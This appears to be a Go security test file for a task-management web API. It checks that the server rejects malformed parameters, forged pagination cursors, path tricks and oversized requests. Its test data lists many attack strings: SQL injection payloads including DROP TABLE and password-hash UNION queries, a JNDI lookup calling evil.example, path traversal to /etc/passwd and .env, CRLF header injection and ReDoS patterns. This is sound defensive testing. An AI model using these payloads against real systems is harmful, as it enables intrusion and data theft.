package main

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"
)

// badQueries are refused by every route, and badListQueries by every list: the parameter that the
// problem names, and the code.
var (
	badQueries = map[string][2]string{
		"zzz=1": {"zzz", "unknown_parameter"}, "zzz": {"zzz", "unknown_parameter"}, "zzz=1&zzz=2": {"zzz", "unknown_parameter"}, "ID=1": {"ID", "unknown_parameter"},
		"=1": {"query", "unknown_parameter"}, "%00=1": {"\ufffd", "unknown_parameter"}, "zzz=1;limit=1": {"query", "malformed"}, "zzz=%": {"query", "malformed"},
		"zzz=%zz": {"query", "malformed"}, "z%f=1": {"query", "malformed"}, "%C3%28=1": {"\ufffd(", "unknown_parameter"}, "zzz=%u0041": {"query", "malformed"},
		"zzz%5B%5D=1": {"zzz[]", "unknown_parameter"}, "zzz[__proto__]=1": {"zzz[__proto__]", "unknown_parameter"}, "_method=DELETE": {"_method", "unknown_parameter"}, "%25zzz=1": {"%zzz", "unknown_parameter"},
		strings.Repeat("z", 100) + "=1":    {strings.Repeat("z", 64) + "…", "unknown_parameter"},
		"zzz=" + strings.Repeat("1", 8200): {"query", "too_long"},
	}
	badListQueries = map[string][2]string{
		"limit=0": {"limit", "out_of_range"}, "limit=101": {"limit", "out_of_range"}, "limit=-1": {"limit", "out_of_range"}, "limit=1.5": {"limit", "out_of_range"}, "limit=1e1": {"limit", "out_of_range"},
		"limit=ten": {"limit", "out_of_range"}, "limit=%2B5": {"limit", "out_of_range"}, "limit=0x5": {"limit", "out_of_range"}, "limit=%205": {"limit", "out_of_range"}, "limit=1_0": {"limit", "out_of_range"},
		"limit=99999999999999999999": {"limit", "out_of_range"}, "limit=": {"limit", "empty"}, "limit": {"limit", "empty"}, "limit=1&limit=1": {"limit", "repeated"}, "limit=1&%6cimit=1": {"limit", "repeated"},
		"limit=%D9%A5": {"limit", "out_of_range"}, "limit=5%00": {"limit", "invalid_text"}, "total=yes": {"total", "not_allowed"}, "total=TRUE": {"total", "not_allowed"}, "total=": {"total", "empty"},
		"cursor=": {"cursor", "empty"}, "cursor=abc": {"cursor", "invalid_cursor"}, "cursor=%0A": {"cursor", "invalid_text"}, "cursor=%FF": {"cursor", "invalid_text"},
		"cursor=" + strings.Repeat("A", 4000): {"cursor", "invalid_cursor"}, "cursor=e30": {"cursor", "invalid_cursor"},
	}
)

// badIDs are no ids: as path segments they name nothing.
var badIDs = []string{"%00", "%2F", "a%2Fb", "..%2Fme", "%2e%2e", "%2E", "0", "-1", "null", "undefined", "me", "*", "%20", "%ff", "%F0%9F%98%80", "%0d%0aX-Evil:1", "%27%20OR%201=1--",
	"{id}", "%7Bid%7D", "urn:uuid:0192f0c1-2345-7abc-8def-0123456789ab", "0192F0C1-2345-7ABC-8DEF-0123456789AB", "0192f0c123457abc8def0123456789ab", "%7B0192f0c1-2345-7abc-8def-0123456789ab%7D",
	"0192f0c1-2345-7abc-8def-0123456789ab%20", "0192f0c1-2345-7abc-8def-0123456789abc", "0192f0c1-2345-7abc-8def-0123456789ag", "0192f0c1_2345_7abc_8def_0123456789ab", "00000000-0000-0000-0000-000000000000",
	"ffffffff-ffff-ffff-ffff-ffffffffffff", strings.Repeat("a", 5000), "WEB-0", "web-1", "WEB-01", "WEB--1", "WEB-99999999999999999999", "WEB-2147483648", "WEB-1e1", "WEB-%2B1", "WEB-%D9%A1", "WEB-", "-1", "NOSUCHKEY-1",
	"0192f0c1-2345-7abc-8def-0123456789ab.", "0192f0c1-2345-7abc-8def-0123456789ab;x=1", "..;", "%252e%252e", "%5c..%5c", "%c0%ae%c0%ae"}

// sqlTexts are parts of statements, and of what else is put together from texts.
var sqlTexts = []string{`' OR 1=1--`, `'; DROP TABLE users; --`, `1) UNION SELECT password_hash FROM users--`, `'||pg_sleep(30)||'`, `$1`, `?`, `?::text`, `\'; SELECT 1--`, `" OR ""="`, `/**/OR/**/1=1`, `x' AND 1=(SELECT 1/0)--`,
	`E'\x27'`, `$$; DROP TABLE users; $$`, `U&'\0027'`, `'::int`, `;`, `{{7*7}}`, `${jndi:ldap://evil.example/a}`, `%s%n%x`, `*)(uid=*`, `../../etc/passwd`, `a' COLLATE "x`, `NULL`, `(SELECT 1)`}

func TestAttackQueries(t *testing.T) {
	t.Parallel()
	a := countAttacks(t, 150)
	sc := newScene(t)
	tried := map[string]bool{} // on every route that has what they are about
	allowed := map[string][]string{}
	everyMethod := []string{"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE"}
	for _, rt := range sc.routes() {
		method, pattern, _ := strings.Cut(rt.pattern, " ")
		allowed[pattern] = append(allowed[pattern], method)
		if method == "GET" {
			allowed[pattern] = append(allowed[pattern], "HEAD")
		}
	}
	sc.everyRoute(func(c *client, rt route, method string, good sample) {
		_, pattern, _ := strings.Cut(rt.pattern, " ")
		path, query, _ := strings.Cut(good.path, "?")
		badQuery := func(list map[string][2]string) {
			for query, want := range list {
				tried[query] = true
				c.refused(method, path+"?"+query, good.body, 400, "bad_parameter").field(want[0], want[1])
			}
		}
		if strings.HasPrefix(path, "/api/") { // a page may be opened with any query
			badQuery(badQueries)
		}
		if strings.HasPrefix(path, "/api/") && method == "GET" && c.get(path+"?limit=1").status == 200 {
			badQuery(badListQueries)
		}
		for i, wildcard := range strings.Split(pattern, "/") {
			if !strings.HasPrefix(wildcard, "{") || wildcard == "{$}" {
				continue
			}
			for _, bad := range badIDs {
				tried[bad] = true
				segments := strings.Split(path, "/")
				segments[i] = bad
				c.refused(method, strings.TrimSuffix(strings.Join(segments, "/")+"?"+query, "?"), good.body, 404, "not_found")
			}
		}
		// A literal path may also match another route's wildcard, as /tasks/bulk does /tasks/{id}.
		for _, method := range append(everyMethod, "OPTIONS", "TRACE", "PROPFIND", "get", "MERGE-PATCH") {
			if slices.Contains(allowed[pattern], method) || pattern == "/api/v1/tasks/bulk" {
				continue
			}
			tried[method] = true
			a := c.refused(method, path, good.body, 405, "method_not_allowed")
			var want []string
			for _, m := range everyMethod {
				if slices.Contains(allowed[pattern], m) {
					want = append(want, m)
				}
			}
			if got := a.header.Get("Allow"); got != strings.Join(want, ", ") {
				sc.t.Errorf("%s: got Allow %q, want %q", a.what, got, strings.Join(want, ", "))
			}
		}
		if method == "GET" {
			get, head := c.get(good.path), c.do("HEAD", good.path, "")
			for _, name := range []string{"Content-Type", "ETag", "Cache-Control", "Link", "Location", "Content-Length"} {
				if get.header.Get(name) != head.header.Get(name) && !(name == "Content-Length" && (head.header.Get(name) == "" || get.header.Get(name) == "")) {
					sc.t.Errorf("HEAD %s: got %s %q, want %q", good.path, name, head.header.Get(name), get.header.Get(name))
				}
			}
			if head.status != get.status || len(head.body) > 0 {
				sc.t.Errorf("HEAD %s: got %d and %d bytes, want %d and none", good.path, head.status, len(head.body), get.status)
			}
		}
	})
	a.tried += len(tried)

	for _, title := range []string{"plain", "half of it is 50% done", "snake_case", `back\slash`, "(parentheses)", "rock & roll"} {
		sc.owner.task(sc.project, title)
	}
	sc.admin = sc.admin.signIn() // as one of the routes ended his session
	cursors := sc.cursors()      // before the state is noted, as they make more rows
	before := sc.state()
	sc.attackParameters(a)
	sc.attackSearch(a)
	sc.attackCursors(a, cursors)
	sc.attackPaths(a)
	sc.attackLengths(a)
	sc.unchanged(before, "queries that were refused")
	sc.owner.get("/api/v1/tasks?search=plain").want(200).is("items.0.title", "plain")
}

func (sc *scene) attackParameters(a *attacks) {
	for path, tests := range map[string]map[string]string{
		"/api/v1/tasks": {
			"status=open": "status not_allowed", "status=todo,": "status not_allowed", "status=TODO": "status not_allowed", "status=": "status empty", "status=todo&status=done": "status repeated",
			"priority=1": "priority not_allowed", "sort=": "sort empty", "sort=id": "sort not_allowed", "sort=--title": "sort not_allowed", "sort=title;drop": "query malformed", "sort=title,number": "sort not_allowed",
			"sort=title&sort=-title": "sort repeated", "sort=%2Btitle": "sort not_allowed", "sort=t.title": "sort not_allowed", "sort=title+DESC": "sort not_allowed",
			"expand=members": "expand not_allowed", "projectId=1": "projectId invalid_uuid", "assigneeId=you": "assigneeId invalid_uuid", "createdBy=none": "createdBy invalid_uuid", "parentId=me": "parentId invalid_uuid",
			"overdue=1": "overdue not_allowed", "deleted=1": "deleted not_allowed", "search=%00": "search invalid_text", "search=a%0Ab": "search invalid_text", "search=%ED%A0%80": "search invalid_text", "search=%C0%AF": "search invalid_text",
			"search=": "search empty", "search=" + strings.Repeat("x", maxSearch+1): "search too_long", "label=" + strings.Repeat("x,", 60): "label too_many", "label=%1F": "label invalid_text", "search=a%0D%0ASet-Cookie:x": "search invalid_text",
		},
		"/api/v1/projects": {"status=open": "status not_allowed", "sort=-": "sort not_allowed", "search=%7F": "search invalid_text", "search=" + strings.Repeat("ü", maxSearch+1): "search too_long", "deleted=yes": "deleted not_allowed"},
		"/api/v1/users":    {"search=%C2%85": "search invalid_text", "search=" + strings.Repeat("x", maxSearch+1): "search too_long", "sort=email": "sort unknown_parameter"},
	} {
		for query, want := range tests {
			a.run(sc.testServer, fmt.Sprintf("%s?%.40s", path, query), func(t *testing.T) {
				field, code, _ := strings.Cut(want, " ")
				sc.viewer.refused("GET", path+"?"+query, "", 400, "bad_parameter").field(field, code)
			})
		}
	}
	// SQL in every parameter: in those of a text it is a text that finds nothing, in others an error.
	texts := []string{"search", "label", "kind", "group"}
	for _, sql := range sqlTexts {
		a.run(sc.testServer, sql, func(t *testing.T) {
			began := time.Now()
			for path, names := range map[string]string{
				"/api/v1/tasks":                     "projectId status priority assigneeId createdBy parentId label dueFrom dueTo updatedSince overdue deleted search sort expand limit cursor total",
				"/api/v1/projects":                  "status deleted search sort limit cursor total",
				"/api/v1/users":                     "search limit cursor total",
				"/api/v1/notifications":             "unread limit cursor",
				"/api/v1/admin/queues/default/jobs": "state kind search group limit cursor",
			} {
				for name := range strings.FieldsSeq(names) {
					query := path + "?" + name + "=" + url.QueryEscape(sql)
					if !slices.Contains(texts, name) {
						sc.admin.refused("GET", query, "", 400, "bad_parameter")
					} else if got := sc.admin.get(query).want(200); len(got.strs("id")) > 0 && prefixQuery(sql) == "" && sql != "?" && sql != ";" {
						t.Errorf("%s finds %s", query, got.body)
					}
				}
			}
			if took := time.Since(began); took > 25*time.Second {
				t.Errorf("it costs %v", took)
			}
		})
	}
}

func (sc *scene) attackSearch(a *attacks) {
	for text, want := range map[string]string{ // the titles that are found
		"%": "half of it is 50% done", "_": "snake_case", `\`: `back\slash`, "0%": "half of it is 50% done", "_c": "snake_case", `k\s`: `back\slash`, "(": "(parentheses)", "&": "rock & roll",
		"%%": "", "__": "", `\\`: "", `\%`: "", "%plain": "plain", "p_ain": "", "pl%": "plain", "%25": "", // LIKE, but for the words beside
		"!plain": "plain", "plain:*": "plain", "plain & !plain": "plain", "plain | roll": "", "snake <-> case": "snake_case", ":*": "", "!": "", "'plain'": "plain", "plain:A": "", "<->": "", "roll &": "rock & roll", // tsquery
		".*": "", "^plain$": "plain", "(a+)+$": "", "[[:alpha:]]+": "", "(((((p*)*)*)*)*)*z": "", "plain|": "plain", // regular expressions
	} {
		a.run(sc.testServer, "a search for "+text, func(t *testing.T) {
			got := sc.viewer.get("/api/v1/tasks?projectId=" + sc.project + "&search=" + url.QueryEscape(text)).want(200)
			if titles := strings.Join(got.strs("title"), ", "); titles != want {
				t.Errorf("got %q, want %q", titles, want)
			}
			everywhere := sc.viewer.get("/api/v1/tasks?search=" + url.QueryEscape(text)).want(200)
			if titles := strings.Join(everywhere.strs("title"), ", "); titles != want {
				t.Errorf("over all projects got %q, want %q", titles, want)
			}
		})
	}
	for _, text := range []string{"%", "_", `\`, "%%", "___"} { // nobody and nothing is called so
		a.run(sc.testServer, "a search of people and projects for "+text, func(t *testing.T) {
			sc.viewer.get("/api/v1/users?search="+url.QueryEscape(text)).want(200).is("items", "[]")
			sc.viewer.get("/api/v1/projects?search="+url.QueryEscape(text)).want(200).is("items", "[]")
		})
	}
}

// cursors are the first pages' of the lists that an owner can read.
func (sc *scene) cursors() map[string]string {
	sc.t.Helper()
	for range 3 {
		sc.owner.signIn()
		sc.owner.project("Another")
		invite(sc.owner, sc.project, fmt.Sprintf("nobody%d@example.org", accounts.Add(1)))
	}
	first := map[string]string{}
	for _, path := range []string{"/api/v1/tasks?sort=title", "/api/v1/tasks?sort=-title", "/api/v1/tasks?sort=priority", "/api/v1/tasks?search=a", "/api/v1/tasks?projectId=" + sc.project, "/api/v1/tasks?status=todo",
		"/api/v1/projects?sort=name", "/api/v1/me/sessions?", "/api/v1/users?", "/api/v1/projects/" + sc.project + "/members?", "/api/v1/projects/" + sc.project + "/activity?", "/api/v1/projects/" + sc.project + "/invitations?"} {
		if first[path] = sc.owner.get(path + "&limit=1").want(200).str("next"); first[path] == "" {
			sc.t.Fatalf("%s has no second page", path)
		}
	}
	return first
}

func (sc *scene) attackCursors(a *attacks, first map[string]string) {
	refused := func(c *client, path, cursor string) {
		c.s.t.Helper()
		c.refused("GET", path+"&cursor="+url.QueryEscape(cursor), "", 400, "bad_parameter").field("cursor", "invalid_cursor")
	}
	for path := range first {
		a.run(sc.testServer, "cursors of other lists and callers for "+path, func(t *testing.T) {
			for other, cursor := range first {
				if other != path {
					refused(sc.owner, path, cursor)
				}
			}
			if !strings.Contains(path, sc.project) { // whose lists are the same for all who read them
				refused(sc.admin, path, first[path])
			}
		})
	}
	const path = "/api/v1/tasks?sort=title"
	good := first[path]
	raw, err := base64.RawURLEncoding.DecodeString(good)
	if err != nil {
		sc.t.Fatal(err)
	}
	body := raw[macSize:]
	encode := base64.RawURLEncoding.EncodeToString
	others := newKeyring(secret(strings.Repeat("another secret ", 4)))
	scope := sc.owner.id + " /api/v1/tasks?sort=title"
	if again := sc.keys.sealCursor(cursor{}, scope); len(again) == 0 || !sc.keys.verify(raw[:macSize], "cursor", scope, string(body)) {
		sc.t.Fatal("the cursors forged here are not like real ones")
	}
	for name, altered := range map[string]string{
		"without its first character": good[1:], "without its last": good[:len(good)-1], "with one more": good + "A", "padded": good + "=", "padded twice": good + "==", "in capitals": strings.ToUpper(good), "twice": good + good,
		"its code alone": good[:22], "its content alone": encode(body), "as it would be without a code": encode([]byte(`{"k":"a","i":"` + newUUID().String() + `"}`)), "a page's number": "2", "an id": newUUID().String(), "an offset": encode([]byte("offset:10")),
		"with SQL in it": encode(append(slices.Clone(raw[:macSize]), `{"k":"' OR 1=1--","i":"x"}`...)), "with another place": encode(append(slices.Clone(raw[:macSize]), strings.Replace(string(body), `"k":"`, `"k":"zz`, 1)...)),
		"by another secret": others.sealCursor(cursor{"plain", newUUID().String()}, scope), "by the key of another use": encode(append(sc.keys.mac("answer", scope, string(body)), body...)),
		"for nobody": sc.keys.sealCursor(cursor{"plain", newUUID().String()}, uuid{}.String()+" /api/v1/tasks?sort=title"), "for the path alone": sc.keys.sealCursor(cursor{"plain", newUUID().String()}, "/api/v1/tasks?sort=title"),
		"in the other alphabet": good[:5] + "+/" + good[7:], "with a space": good[:10] + " " + good[10:], "of 6 000 bytes": strings.Repeat("QUFB", 1500), "nothing but code": encode(make([]byte, macSize)),
	} {
		a.run(sc.testServer, "a cursor "+name, func(t *testing.T) { refused(sc.owner, path, altered) })
	}
	a.run(sc.testServer, "a cursor with any character altered", func(t *testing.T) {
		for i := range good {
			for _, c := range "AZz9-" {
				if altered := good[:i] + string(c) + good[i+1:]; altered != good {
					if _, err := sc.keys.openCursor(altered, scope); err == nil {
						t.Errorf("%s is accepted", altered)
					}
				}
			}
		}
	})
	a.run(sc.testServer, "a cursor with other spare bits", func(t *testing.T) {
		const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
		for _, key := range []string{"k", "kk", "kkk"} { // one has none, the others two and four
			sealed := sc.keys.sealCursor(cursor{key, "id"}, scope)
			for _, last := range alphabet {
				altered := sealed[:len(sealed)-1] + string(last)
				if _, err := sc.keys.openCursor(altered, scope); (err == nil) != (altered == sealed) {
					t.Errorf("%s for %s: got %v", altered, sealed, err)
				}
			}
		}
	})
	sc.owner.get(path + "&cursor=" + good).want(200)
}

func (sc *scene) attackPaths(a *attacks) {
	for _, path := range []string{"//", "//api/v1/me", "/api//v1/me", "/api/v1//me", "/api/v1/me/", "/api/v1/me//", "/api/v1/./me", "/api/v1/../v1/me", "/api/v1/me/..", "/api/v1/me/.", "/../etc/passwd",
		"/api/v1/%2e%2e/v1/me", "/api/v1/me%2Fsessions", "/api/v1/me%00", "/api/v1/me%20", "/API/v1/me", "/api/v1/Me", "/api/v2/me", "/api/v1", "/api", "/docs/", "/docs/../docs", "/docs/openapi.yaml",
		"/docs/%2e%2e%2fschema.sql", "/docs/init.js/", "/problems/", "/problems/nothing", "/problems/not_found/", "/index.html", "/favicon.ico", "/.git/config", "/.env", "/debug/pprof/", "/api/v1/tasks/",
		"/api/v1/me;x", "/api/v1/me;jsessionid=1", "/api/v1;x/me", "/api/v1/tasks/..;/admin/stats", "/api/v1/me.", "/api/v1/me.json", "/api/v1/me%2e", "/api/v1/%252e%252e/admin/stats", "/api/v1/me%252Fsessions", `/api\v1\me`,
		"/api/v1/me%5c..%5cadmin", "/%2f%2fevil.example/%2e%2e", "/%5cevil.example", "/%c0%ae%c0%ae/etc/passwd", "/api/v1/me%0d%0aSet-Cookie:x=1", "/api/v1/me%3Flimit=1", "/api/v1/me%23", "/api/v1/%E2%80%8Bme", "/api/v1/ｍｅ", "/api/v1/me\u202e",
		"/account/%2e%2e%2fdocs%2findex.html", "/account/..%5cdocs", "/admin/queues/%2e%2e", "/assets/1/queues/main.js%00.html", "/assets/1/queues/%2e%2e%2fdocs%2finit.js", "/assets/%2e%2e/queues", "/assets/1/docs/index.html", "/docs/%2fetc%2fpasswd", "/problems/..%2f..%2fetc%2fpasswd", "/problems/%00", "/server-status", "/actuator/env", "/wp-login.php"} {
		a.run(sc.testServer, "the path "+path, func(t *testing.T) {
			for _, c := range []*client{sc.anonymous(), sc.admin} {
				if got := c.do("GET", path, "").problem(404, "not_found"); got.header.Get("Location") != "" || got.header.Get("Set-Cookie") != "" {
					t.Errorf("got %v", got.header)
				}
			}
		})
	}
	for name, id := range map[string]string{"in capitals": strings.ToUpper(sc.project), "with other dashes": strings.ReplaceAll(sc.project, "-", "_"), "without dashes": strings.ReplaceAll(sc.project, "-", ""), "in braces": "{" + sc.project + "}",
		"as a URN": "urn:uuid:" + sc.project, "after a space": " " + sc.project, "with one more": sc.project + "0"} {
		a.run(sc.testServer, "a good id "+name, func(t *testing.T) {
			sc.owner.get("/api/v1/projects/"+url.PathEscape(id)).problem(404, "not_found")
			sc.owner.refused("GET", "/api/v1/tasks?projectId="+url.QueryEscape(id), "", 400, "bad_parameter").field("projectId", "invalid_uuid")
		})
	}
	for name, value := range map[string]string{"X-HTTP-Method-Override": "DELETE", "X-Method-Override": "DELETE", "X-HTTP-Method": "DELETE", "X-Original-URL": "/api/v1/admin/stats", "X-Rewrite-URL": "/api/v1/admin/stats", "X-Forwarded-Prefix": "/../..", "X-Forwarded-Host": "evil.example"} {
		a.run(sc.testServer, "another request by "+name, func(t *testing.T) {
			got := sc.owner.with(name, value).get("/api/v1/projects?limit=1").want(200)
			if link := got.header.Get("Link"); !strings.HasPrefix(link, "</api/v1/projects?") {
				t.Errorf("got Link %s", link)
			}
			sc.owner.with(name, value).post("/api/v1/projects/"+sc.project, "{}").problem(405, "method_not_allowed")
		})
	}
	sc.admin.get("/api/v1/%6de").want(200) // another spelling of the same path
}

func (sc *scene) attackLengths(a *attacks) {
	var names strings.Builder
	for i := 0; names.Len() < maxQuery-5; i++ {
		fmt.Fprintf(&names, "%x&", 0x1000+i)
	}
	for name, query := range map[string]string{
		"1 600 parameters": names.String(), "1 100 times one": strings.Repeat("limit=1&", 1020), "empty ones": strings.Repeat("&", maxQuery), "equals signs": strings.Repeat("=", maxQuery), "one name of 8 KiB": strings.Repeat("z", maxQuery),
		"one of escapes": strings.Repeat("%41", 2700), "5 000 labels": "label=" + strings.Repeat("a,", 4000), "8 000 sorts": "sort=" + strings.Repeat("-", 8000), "4 000 states": "status=" + strings.Repeat("todo,", 1600) + "x", "a search of escapes": "search=" + strings.Repeat("%F0%9F%98%80", 680),
		"nested brackets": "a" + strings.Repeat("[a]", 2700) + "=1", "9 KiB": "zzz=" + strings.Repeat("1", 9<<10), "a second question mark": "limit=1?limit=2",
	} {
		a.run(sc.testServer, name, func(t *testing.T) {
			began := time.Now()
			got := sc.admin.get("/api/v1/tasks?" + query)
			if took := time.Since(began); took > 20*time.Second || len(got.body) > 64<<10 {
				t.Errorf("it costs %v and %d bytes", took, len(got.body))
			}
			if name != "empty ones" { // which are none
				got.problem(400, "bad_parameter")
			}
		})
	}
	for name, path := range map[string]string{"15 000 characters": "/api/v1/tasks/" + strings.Repeat("x", 15_000), "5 000 segments": "/api/v1/tasks" + strings.Repeat("/x", 5_000), "5 000 escapes": "/api/v1/tasks/" + strings.Repeat("%2e", 5_000), "3 000 steps up": "/api/v1/tasks" + strings.Repeat("/..", 3_000)} {
		a.run(sc.testServer, "a path of "+name, func(t *testing.T) { sc.admin.get(path).problem(404, "not_found") })
	}
}
